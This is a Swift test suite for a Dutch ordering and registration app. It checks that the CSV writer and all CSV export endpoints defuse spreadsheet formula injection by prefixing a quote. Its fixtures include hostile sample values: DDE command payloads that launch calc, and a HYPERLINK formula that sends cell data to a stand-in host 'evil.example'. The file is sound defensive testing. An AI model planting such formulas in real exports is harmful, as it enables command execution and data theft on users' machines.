@testable import Catalogus
import CatalogusAPI
import CatalogusDomain
import CatalogusServices
import CatalogusStorage
import CatalogusWeb
import Foundation
import JSON
import Testing

/// Text that people type ends up in CSV files that spreadsheets open directly; a cell
/// starting with `=`, `+`, `-`, `@`, tab or CR must come out with a leading `'` so that
/// it is shown, never run (OWASP CSV injection). Numbers are never altered.
@Suite struct CSVInjectionTests {
    // MARK: The writer

    static func written(_ cells: [TableCell], separator: Character = ",") -> String {
        var csv = CSVWriter(separator: separator)
        csv.row(cells)
        var bytes = csv.bytes
        if bytes.starts(with: [0xEF, 0xBB, 0xBF]) { bytes.removeFirst(3) }
        return String(decoding: bytes, as: UTF8.self)
    }

    @Test(arguments: [
        ("=1+1", "'=1+1"),
        ("+31 6 1234", "'+31 6 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "\"'\tcmd\""),          // a tab is a separator to some readers: quoted
        ("\r=cmd", "\"'\r'=cmd\""),          // CR also needs quotes (RFC 4180), and starts a line
        ("=HYPERLINK(\"x\",\"y\")", "\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\""),
        ("a=b", "a=b"),                       // only the first character counts
        (" =1", " =1"),
        ("'=1", "'=1"),
        ("", ""),
    ])
    func textStartingLikeAFormulaGetsAQuote(text: String, cell: String) {
        #expect(Self.written([.text(text)]) == cell + "\r\n")
    }

    /// A Dutch Excel splits a comma file on `;` (and a tab-separated guess on tabs): there
    /// our quotes stand mid-field and count for nothing, so a formula after the *other*
    /// separator (or a line break) gets its `'` too, and the cell is quoted.
    @Test(arguments: [Character(","), Character(";")])
    func aFormulaAfterAnySeparatorIsNeutralised(separator: Character) {
        let cases = [("x;=cmd|' /C calc'!A0", "x;'=cmd|' /C calc'!A0"), ("x,=cmd|' /C calc'!A0", "x,'=cmd|' /C calc'!A0"),
                     ("x\t@SUM(A1)", "x\t'@SUM(A1)"), ("x;\"=1+1", "x;'\"\"=1+1"), ("a\n-2+3", "a\n'-2+3"),
                     ("x; =1", "x; =1"), ("10;20", "10;20")]
        for (text, neutral) in cases {
            let line = Self.written([.text("lead"), .text(text), .integer(1)], separator: separator)
            #expect(line == "lead\(separator)\"\(neutral)\"\(separator)1\r\n", "\(text.debugDescription) with \(separator)")
            for reading: Character in [",", ";", "\t"] {
                let cells = Self.spreadsheetCells(String(line.dropLast(2)), separator: reading)
                #expect(cells.allSatisfy { $0.first.map { !"=+-@".contains($0) } ?? true }, "\(cells) read with \(reading)")
            }
        }
    }

    /// How a spreadsheet (or Python's csv module) splits a line on a separator it chose:
    /// a quote opens a quoted field only at the start of a field (a doubled quote inside is
    /// one quote); elsewhere it is a character like any other.
    static func spreadsheetCells(_ line: String, separator: Character) -> [String] {
        var cells = [""]
        var inQuotes = false, fieldStart = true, pendingQuote = false
        for character in line {
            if inQuotes {
                if pendingQuote {
                    pendingQuote = false
                    if character == "\"" { cells[cells.count - 1].append("\""); continue }
                    inQuotes = false
                } else if character == "\"" {
                    pendingQuote = true
                    continue
                } else {
                    cells[cells.count - 1].append(character)
                    continue
                }
            }
            if character == separator {
                cells.append("")
                fieldStart = true
                continue
            }
            if fieldStart && character == "\"" { inQuotes = true } else { cells[cells.count - 1].append(character) }
            fieldStart = false
        }
        return cells
    }

    @Test func numbersAreWrittenAsTheyAre() {
        #expect(Self.written([.integer(-5), .integer(0), .integer(nil), .integer(Int64.min)]) == "-5,0,,-9223372036854775808\r\n")
        #expect(Self.written([.decimal(205, scale: 1), .decimal(-5, scale: 1), .decimal(1000, scale: 3), .decimal(7, scale: 3),
                              .decimal(nil, scale: 1), .decimal(-12, scale: 0)]) == "20.5,-0.5,1.000,0.007,,-12\r\n")
        #expect(Self.written([.text("-5"), .integer(-5)], separator: ";") == "'-5;-5\r\n", "the same text in a text column is neutralised")
    }

    @Test func headerIsOneRowOfText() {
        var csv = CSVWriter()
        csv.header(["period", "value"])
        #expect(csv.bytes == Array("period,value\r\n".utf8))
    }

    // MARK: Every CSV endpoint

    static let activityName = "=1+1 Lezing"
    static let municipalityName = "@cmd Midden-Drenthe"
    static let locationName = "=HYPERLINK(\"http://evil.example\",\"Beilen\")"
    static let reference = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Factuur\")"
    static let note = "@SUM(1+1)*cmd|' /C calc'!A0"
    static let registrationNotes = "\r=2+5"
    static let partners = ["-2+3+cmd|' /C calc'!A0", "+Bibliotheek"]

    /// The CSV body as rows of cells, after a 200 with a CSV content type.
    static func table(_ client: HTTPTestClient, _ path: String, token: String,
                      sourceLocation: SourceLocation = #_sourceLocation) throws -> [[String]] {
        let response = try client.request("GET", path, token: token)
        try #require(response.status == 200, "\(path): \(response)", sourceLocation: sourceLocation)
        #expect(response.header("Content-Type")?.hasPrefix("text/csv") == true, "\(path)", sourceLocation: sourceLocation)
        return try CSVReader.parse(response.body)
    }

    /// The rows as dictionaries keyed by the header's column codes (a `;` file names its
    /// columns in Dutch: mapped back through the vocabulary).
    static func records(_ table: [[String]]) -> [[String: String]] {
        guard let header = table.first else { return [] }
        // A label may name more than one code ("Notitie": an order's `note`, a registration's `notes`).
        let codes = Dictionary(grouping: Vocabulary.columnTerms.terms, by: \.label).mapValues { $0.map(\.code) }
        return table.dropFirst().map { row in
            var record: [String: String] = [:]
            for (name, value) in zip(header, row) {
                for code in codes[name] ?? [name] where record[code] == nil { record[code] = value }
            }
            return record
        }
    }

    /// A number of the JSON as the `;` form writes it: cents as euros, a decimal comma.
    static func dutchMoney(_ cents: JSONValue?) -> String? {
        cents?.int64Value.map { TableCell.decimalText($0, scale: 2).replacingOccurrences(of: ".", with: ",") }
    }

    /// No cell may start like a formula, unless it is a (negative) number.
    static func expectNoLiveFormula(_ table: [[String]], _ path: String, sourceLocation: SourceLocation = #_sourceLocation) {
        for row in table {
            for cell in row {
                let first = cell.utf8.first
                #expect(first.map { !TableCell.formulaStarts.contains($0) || Int64(cell) != nil || Double(cell) != nil } ?? true,
                        "\(path): live cell \(cell.debugDescription)", sourceLocation: sourceLocation)
            }
        }
    }

    @Test func hostileTextIsNeutralisedInEveryCSVEndpoint() throws {
        try withDemoApp(configure: { $0.rateLimitPerSecond = 0 }) { app in
            let admin = try registrationTestToken(app, .admin)
            let staff = try registrationTestToken(app, .staff)
            let viewer = try registrationTestToken(app, .viewer)
            let municipality = try registrationTestToken(app, .municipality)
            let client = try app.client()

            // What an admin may name: an activity, a municipality, a location.
            let activity = try client.request("GET", "/api/v1/activities/1", token: admin).json()
            let code = try #require(activity["code"]?.stringValue)
            let renamed = try client.request("PATCH", "/api/v1/activities/1", token: admin, json: ["name": .string(Self.activityName)],
                                             headers: ["If-Match: \"\(activity["version"]?.int64Value ?? 0)\""])
            try #require(renamed.status == 200, "\(renamed)")
            let place = try client.request("GET", "/api/v1/municipalities/midden-drenthe", token: admin).json()
            let put = try client.request("PUT", "/api/v1/municipalities/midden-drenthe", token: admin,
                                         json: ["cbs_code": place["cbs_code"] ?? .null, "name": .string(Self.municipalityName)])
            try #require(put.status == 200, "\(put)")
            let location = try client.request("POST", "/api/v1/locations", token: admin,
                                              json: ["municipality": "midden-drenthe", "name": .string(Self.locationName), "kind": "external"])
            try #require(location.status == 201, "\(location)")
            let locationID = try #require(try location.json()["id"]?.int64Value)

            // What a municipality may type: an order reference and line notes.
            let created = try client.request("POST", "/api/v1/orders", token: municipality, json: [
                "municipality": "midden-drenthe", "year": 2026, "reference": .string(Self.reference),
                "lines": [["activity": 1, "quantity": 3, "note": .string(Self.note)]],
            ])
            try #require(created.status == 201, "\(created)")
            let order = try created.json()
            let orderID = try #require(order["id"]?.int64Value)
            let line = try #require(order["lines"]?.arrayValue?.first)

            // What staff may type: registration notes and partners.
            let registration = try client.request("POST", "/api/v1/registrations", token: staff, json: registrationTestBody([
                "activity": 1, "location": .integer(locationID), "notes": .string(Self.registrationNotes),
                "partners": .array(Self.partners.map(JSONValue.string)), "participants": 17, "sessions": 2,
            ]))
            try #require(registration.status == 201, "\(registration)")
            let registrationID = try #require(try registration.json()["id"]?.int64Value)

            // Orders, as a list (the admin's `;` export that Excel opens) and one by one.
            for path in ["/api/v1/orders?output=csv&sep=%3B", "/api/v1/orders/\(orderID)?output=csv"] {
                let table = try Self.table(client, path, token: admin)
                Self.expectNoLiveFormula(table, path)
                let row = try #require(Self.records(table).first { $0["order_id"] == String(orderID) }, "\(path)")
                #expect(row["reference"] == "'" + Self.reference, "\(path)")
                #expect(row["note"] == "'" + Self.note, "\(path)")
                #expect(row["activity_name"] == "'" + Self.activityName, "\(path)")
                #expect(row["activity_code"] == code)
                #expect(row["quantity"] == "3")
                #expect(row["vat_rate"] == registrationTestNumberText(line["vat_rate"]), "\(path)")
                for field in ["unit_price_cents", "net_cents", "vat_cents", "gross_cents"] {
                    // The `;` form is for people: euros with a decimal comma, as the workbooks have it.
                    let expected = path.contains("sep=") ? Self.dutchMoney(line[field]) : registrationTestNumberText(line[field])
                    #expect(row[field] == expected, "\(path) \(field)")
                }
            }

            // Registrations.
            let registrations = "/api/v1/registrations?municipality=midden-drenthe&from=2024-05-14&to=2024-05-14&output=csv&sep=%3B"
            let registrationTable = try Self.table(client, registrations, token: viewer)
            Self.expectNoLiveFormula(registrationTable, registrations)
            let registered = try #require(Self.records(registrationTable).first { $0["id"] == String(registrationID) })
            // "\r=2+5": a `'` at the start and after the line break, where a reader may start a cell.
            #expect(registered["notes"] == "'\r'=2+5")
            #expect(registered["partners"] == "'" + Self.partners.joined(separator: "|"))
            #expect(registered["location_name"] == "'" + Self.locationName)
            #expect(registered["activity_name"] == "'" + Self.activityName)
            #expect(registered["participants"] == "17")
            #expect(registered["sessions"] == "2")
            #expect(registered["location_id"] == String(locationID))

            // The price list.
            let prices = "/api/v1/prices?year=2026&output=csv"
            let priceTable = try Self.table(client, prices, token: admin)
            Self.expectNoLiveFormula(priceTable, prices)
            let price = try #require(Self.records(priceTable).first { $0["activity_id"] == "1" })
            #expect(price["activity_name"] == "'" + Self.activityName)
            #expect(price["unit_price_cents"] == registrationTestNumberText(line["unit_price_cents"]))

            // Statistics: the municipality's report, the overview and a time series.
            let report = "/api/v1/stats/municipalities/midden-drenthe?year=2024&output=csv"
            let reportTable = try Self.table(client, report, token: viewer)
            Self.expectNoLiveFormula(reportTable, report)
            let activityRows = Self.records(reportTable).filter { $0["section"] == "activity" && $0["code"] == code }
            #expect(!activityRows.isEmpty)
            #expect(activityRows.allSatisfy { $0["name"] == "'" + Self.activityName })
            let reportJSON = try client.request("GET", "/api/v1/stats/municipalities/midden-drenthe?year=2024", token: viewer).json()
            let jsonActivity = reportJSON["orders"]?["activities"]?.arrayValue?.first { $0["activity"]?["id"]?.int64Value == 1 }
            #expect(activityRows.first { $0["metric"] == "participants" }?["value"]
                    == registrationTestNumberText(jsonActivity?["participants"]))

            let overview = "/api/v1/stats/overview?year=2024&output=csv&sep=%3B"
            let overviewTable = try Self.table(client, overview, token: viewer)
            Self.expectNoLiveFormula(overviewTable, overview)
            let mine = try #require(Self.records(overviewTable).first { $0["municipality"] == "midden-drenthe" })
            #expect(mine["name"] == "'" + Self.municipalityName)
            let overviewJSON = try client.request("GET", "/api/v1/stats/overview?year=2024", token: viewer).json()
            let jsonRow = overviewJSON["items"]?.arrayValue?.first { $0["municipality"]?["slug"]?.stringValue == "midden-drenthe" }
            #expect(mine["participants"] == registrationTestNumberText(jsonRow?["participants"]))

            let series = "/api/v1/stats/timeseries?measure=participants&interval=month&from=2024-05-01&to=2024-05-31&output=csv"
            let seriesTable = try Self.table(client, series, token: viewer)
            Self.expectNoLiveFormula(seriesTable, series)
            let seriesJSON = try client.request("GET", series.replacingOccurrences(of: "&output=csv", with: ""), token: viewer).json()
            #expect(seriesTable.dropFirst().map { $0.last } == (seriesJSON["items"]?.arrayValue ?? []).map { registrationTestNumberText($0["value"]) })

            // The JSON keeps what was typed: only the CSV cell is neutralised.
            #expect(try client.request("GET", "/api/v1/orders/\(orderID)", token: admin).json()["reference"]?.stringValue == Self.reference)
        }
    }
}
